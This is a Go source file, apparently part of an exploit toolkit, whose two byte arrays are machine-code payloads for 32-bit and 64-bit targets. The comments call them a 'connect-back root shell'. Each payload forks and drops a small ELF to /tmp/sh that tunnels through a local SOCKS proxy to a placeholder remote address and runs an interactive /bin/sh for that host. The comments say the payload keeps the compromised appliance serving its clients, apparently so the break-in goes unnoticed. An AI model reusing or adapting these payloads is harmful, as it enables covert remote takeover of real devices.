package shellcode

// Connect-back root shell for 32-bit executables. It calls the loopback
// proxy starter first so that the appliance keeps serving its own
// clients, then forks, drops a tiny ELF to /tmp/sh and runs it.
var debugShell32Code = []byte{
	0xb8, 0x77, 0x77, 0x77, 0x77, 0xff, 0xd0, 0xb8, 0x02, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x85, 0xc0,
	0x0f, 0x85, 0xa1, 0x01, 0x00, 0x00, 0xba, 0xed, 0x01, 0x00, 0x00, 0xb9, 0xc2, 0x00, 0x00, 0x00,
	0x68, 0x2f, 0x73, 0x68, 0x00, 0x68, 0x2f, 0x74, 0x6d, 0x70, 0x8d, 0x1c, 0x24, 0xb8, 0x05, 0x00,
	0x00, 0x00, 0xcd, 0x80, 0x50, 0xeb, 0x31, 0x59, 0x8b, 0x11, 0x8d, 0x49, 0x04, 0x89, 0xc3, 0xb8,
	0x04, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x5b, 0xb8, 0x06, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x8d, 0x1c,
	0x24, 0x31, 0xd2, 0x52, 0x53, 0x8d, 0x0c, 0x24, 0xb8, 0x0b, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x31,
	0xdb, 0xb8, 0x01, 0x00, 0x00, 0x00, 0xcd, 0x80, 0xe8, 0xca, 0xff, 0xff, 0xff, 0x46, 0x01, 0x00,
	0x00, 0x7f, 0x45, 0x4c, 0x46, 0x01, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
	0x00, 0x02, 0x00, 0x03, 0x00, 0x01, 0x00, 0x00, 0x00, 0x54, 0x80, 0x04, 0x08, 0x34, 0x00, 0x00,
	0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x34, 0x00, 0x20, 0x00, 0x01, 0x00, 0x00,
	0x00, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x80, 0x04,
	0x08, 0x00, 0x80, 0x04, 0x08, 0xf2, 0x00, 0x00, 0x00, 0xf2, 0x00, 0x00, 0x00, 0x07, 0x00, 0x00,
	0x00, 0x00, 0x10, 0x00, 0x00, 0x55, 0x89, 0xe5, 0x83, 0xec, 0x10, 0x6a, 0x00, 0x6a, 0x01, 0x6a,
	0x02, 0x8d, 0x0c, 0x24, 0xbb, 0x01, 0x00, 0x00, 0x00, 0xb8, 0x66, 0x00, 0x00, 0x00, 0xcd, 0x80,
	0x83, 0xc4, 0x0c, 0x89, 0x45, 0xfc, 0x68, 0x7f, 0x00, 0x00, 0x01, 0x68, 0x02, 0x00, 0x04, 0x38,
	0x8d, 0x14, 0x24, 0x6a, 0x10, 0x52, 0x50, 0x8d, 0x0c, 0x24, 0xbb, 0x03, 0x00, 0x00, 0x00, 0xb8,
	0x66, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x83, 0xc4, 0x14, 0x85, 0xc0, 0x7d, 0x18, 0x6a, 0x00, 0x6a,
	0x01, 0x8d, 0x1c, 0x24, 0x31, 0xc9, 0xb8, 0xa2, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x83, 0xc4, 0x08,
	0xeb, 0xc4, 0x8b, 0x45, 0xfc, 0x83, 0xec, 0x20, 0x8d, 0x0c, 0x24, 0xba, 0x03, 0x00, 0x00, 0x00,
	0x8b, 0x5d, 0xfc, 0xc7, 0x01, 0x05, 0x01, 0x00, 0x00, 0xb8, 0x04, 0x00, 0x00, 0x00, 0xcd, 0x80,
	0xba, 0x04, 0x00, 0x00, 0x00, 0xb8, 0x03, 0x00, 0x00, 0x00, 0xcd, 0x80, 0xc7, 0x01, 0x05, 0x01,
	0x00, 0x01, 0xc7, 0x41, 0x04, 0xaa, 0xbb, 0xcc, 0xdd, 0x66, 0xc7, 0x41, 0x08, 0x88, 0x88, 0xba,
	0x0a, 0x00, 0x00, 0x00, 0xb8, 0x04, 0x00, 0x00, 0x00, 0xcd, 0x80, 0xba, 0x20, 0x00, 0x00, 0x00,
	0xb8, 0x03, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x83, 0xc4, 0x20, 0x8b, 0x5d, 0xfc, 0xb9, 0x02, 0x00,
	0x00, 0x00, 0xb8, 0x3f, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x49, 0x7d, 0xf6, 0x31, 0xd2, 0x68, 0x2d,
	0x69, 0x00, 0x00, 0x89, 0xe7, 0x68, 0x2f, 0x73, 0x68, 0x00, 0x68, 0x2f, 0x62, 0x69, 0x6e, 0x89,
	0xe3, 0x52, 0x57, 0x53, 0x8d, 0x0c, 0x24, 0xb8, 0x0b, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x31, 0xdb,
	0xb8, 0x01, 0x00, 0x00, 0x00, 0xcd, 0x80, 0xb8, 0x01, 0x00, 0x00, 0x00, 0xc3,
}

// 64-bit variant of debugShell32Code. The dropped ELF is the same 32-bit
// connect-back stub.
var debugShell64Code = []byte{
	0x55, 0x53, 0x41, 0x54, 0x41, 0x55, 0x41, 0x56, 0x41, 0x57, 0x48, 0xb8, 0x77, 0x77, 0x77, 0x77,
	0x77, 0x77, 0x77, 0x77, 0xff, 0xd0, 0x48, 0xc7, 0xc0, 0x39, 0x00, 0x00, 0x00, 0x0f, 0x05, 0x48,
	0x85, 0xc0, 0x0f, 0x85, 0xc2, 0x01, 0x00, 0x00, 0x48, 0xc7, 0xc2, 0xed, 0x01, 0x00, 0x00, 0x48,
	0xc7, 0xc6, 0xc2, 0x00, 0x00, 0x00, 0x48, 0x83, 0xec, 0x08, 0x48, 0x8d, 0x3c, 0x24, 0xc7, 0x07,
	0x2f, 0x74, 0x6d, 0x70, 0xc7, 0x47, 0x04, 0x2f, 0x73, 0x68, 0x00, 0x48, 0xc7, 0xc0, 0x02, 0x00,
	0x00, 0x00, 0x0f, 0x05, 0x50, 0xeb, 0x40, 0x59, 0x48, 0x8b, 0x11, 0x48, 0x8d, 0x71, 0x08, 0x48,
	0x89, 0xc7, 0x48, 0xc7, 0xc0, 0x01, 0x00, 0x00, 0x00, 0x0f, 0x05, 0x5f, 0x48, 0xc7, 0xc0, 0x03,
	0x00, 0x00, 0x00, 0x0f, 0x05, 0x48, 0x8d, 0x3c, 0x24, 0x48, 0x31, 0xd2, 0x52, 0x57, 0x48, 0x8d,
	0x34, 0x24, 0x48, 0xc7, 0xc0, 0x3b, 0x00, 0x00, 0x00, 0x0f, 0x05, 0x48, 0x31, 0xff, 0x48, 0xc7,
	0xc0, 0x3c, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xe8, 0xbb, 0xff, 0xff, 0xff, 0x46, 0x01, 0x00, 0x00,
	0x00, 0x00, 0x00, 0x00, 0x7f, 0x45, 0x4c, 0x46, 0x01, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00,
	0x00, 0x00, 0x00, 0x00, 0x02, 0x00, 0x03, 0x00, 0x01, 0x00, 0x00, 0x00, 0x54, 0x80, 0x04, 0x08,
	0x34, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x34, 0x00, 0x20, 0x00,
	0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
	0x00, 0x80, 0x04, 0x08, 0x00, 0x80, 0x04, 0x08, 0xf2, 0x00, 0x00, 0x00, 0xf2, 0x00, 0x00, 0x00,
	0x07, 0x00, 0x00, 0x00, 0x00, 0x10, 0x00, 0x00, 0x55, 0x89, 0xe5, 0x83, 0xec, 0x10, 0x6a, 0x00,
	0x6a, 0x01, 0x6a, 0x02, 0x8d, 0x0c, 0x24, 0xbb, 0x01, 0x00, 0x00, 0x00, 0xb8, 0x66, 0x00, 0x00,
	0x00, 0xcd, 0x80, 0x83, 0xc4, 0x0c, 0x89, 0x45, 0xfc, 0x68, 0x7f, 0x00, 0x00, 0x01, 0x68, 0x02,
	0x00, 0x04, 0x38, 0x8d, 0x14, 0x24, 0x6a, 0x10, 0x52, 0x50, 0x8d, 0x0c, 0x24, 0xbb, 0x03, 0x00,
	0x00, 0x00, 0xb8, 0x66, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x83, 0xc4, 0x14, 0x85, 0xc0, 0x7d, 0x18,
	0x6a, 0x00, 0x6a, 0x01, 0x8d, 0x1c, 0x24, 0x31, 0xc9, 0xb8, 0xa2, 0x00, 0x00, 0x00, 0xcd, 0x80,
	0x83, 0xc4, 0x08, 0xeb, 0xc4, 0x8b, 0x45, 0xfc, 0x83, 0xec, 0x20, 0x8d, 0x0c, 0x24, 0xba, 0x03,
	0x00, 0x00, 0x00, 0x8b, 0x5d, 0xfc, 0xc7, 0x01, 0x05, 0x01, 0x00, 0x00, 0xb8, 0x04, 0x00, 0x00,
	0x00, 0xcd, 0x80, 0xba, 0x04, 0x00, 0x00, 0x00, 0xb8, 0x03, 0x00, 0x00, 0x00, 0xcd, 0x80, 0xc7,
	0x01, 0x05, 0x01, 0x00, 0x01, 0xc7, 0x41, 0x04, 0xaa, 0xbb, 0xcc, 0xdd, 0x66, 0xc7, 0x41, 0x08,
	0x88, 0x88, 0xba, 0x0a, 0x00, 0x00, 0x00, 0xb8, 0x04, 0x00, 0x00, 0x00, 0xcd, 0x80, 0xba, 0x20,
	0x00, 0x00, 0x00, 0xb8, 0x03, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x83, 0xc4, 0x20, 0x8b, 0x5d, 0xfc,
	0xb9, 0x02, 0x00, 0x00, 0x00, 0xb8, 0x3f, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x49, 0x7d, 0xf6, 0x31,
	0xd2, 0x68, 0x2d, 0x69, 0x00, 0x00, 0x89, 0xe7, 0x68, 0x2f, 0x73, 0x68, 0x00, 0x68, 0x2f, 0x62,
	0x69, 0x6e, 0x89, 0xe3, 0x52, 0x57, 0x53, 0x8d, 0x0c, 0x24, 0xb8, 0x0b, 0x00, 0x00, 0x00, 0xcd,
	0x80, 0x31, 0xdb, 0xb8, 0x01, 0x00, 0x00, 0x00, 0xcd, 0x80, 0x41, 0x5f, 0x41, 0x5e, 0x41, 0x5d,
	0x41, 0x5c, 0x5b, 0x5d, 0x48, 0xc7, 0xc0, 0x01, 0x00, 0x00, 0x00, 0xc3,
}
